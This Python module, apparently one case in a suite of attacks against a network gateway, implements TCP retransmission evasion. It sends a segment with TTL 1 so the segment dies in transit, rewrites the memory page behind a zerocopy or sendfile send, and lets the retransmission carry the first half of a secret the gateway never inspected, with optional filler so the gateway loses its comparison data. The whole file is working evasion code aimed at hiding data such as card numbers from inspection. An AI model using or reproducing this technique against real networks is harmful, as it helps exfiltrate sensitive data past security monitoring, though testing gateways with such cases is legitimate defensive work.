"""A segment that is sent again with other bytes, because its pages were changed meanwhile.

The first sending dies on the way (a TTL of 1, which any process may set), what follows arrives,
then the page gets the first half of the value, and TCP sends it again. `beyond`: bytes behind
the second half, so that the gateway may have forgotten what it could compare with.
`way`: `zerocopy` or `sendfile`.
"""

from __future__ import annotations

import mmap
import os
import socket
import time

from attacks.connection import drained, give_up
from attacks.page_race import WAYS
from attacks.target import Target

PAGE = mmap.PAGESIZE
SOONER = 0.05  # seconds until a second segment: before the first is sent again


def main(target: Target) -> None:
    """Twice, since a retransmission may come in between."""
    for _ in range(2):
        once(target)


def once(target: Target) -> None:
    """One connection."""
    level, option = (
        (socket.IPPROTO_IP, socket.IP_TTL)
        if target.af == socket.AF_INET
        else (socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS)
    )
    cut = len(target.secret) // 2
    first, second = target.secret[:cut], target.secret[cut:]
    lead = b"order 17, card "
    filler = b" and so on," * (int(target.args.get("beyond", 0)) // 11 + 1)
    file = os.memfd_create("page")
    os.ftruncate(file, PAGE)
    page = mmap.mmap(file, PAGE)
    size = len(lead) + len(first)
    page[:size] = lead + b"x" * len(first)
    made = target.tcp()
    try:
        made.sendall(b"hello, this is the beginning\n")
        drained(made)
        made.setsockopt(level, option, 1)
        WAYS[target.args.get("way", "zerocopy")](made, file, page, size)
        page[len(lead) : size] = first
        made.setsockopt(level, option, 64)
        time.sleep(0.002)
        made.sendall(second + b", thanks\n" + filler)
        drained(made, 2.5)
    finally:
        give_up(made)
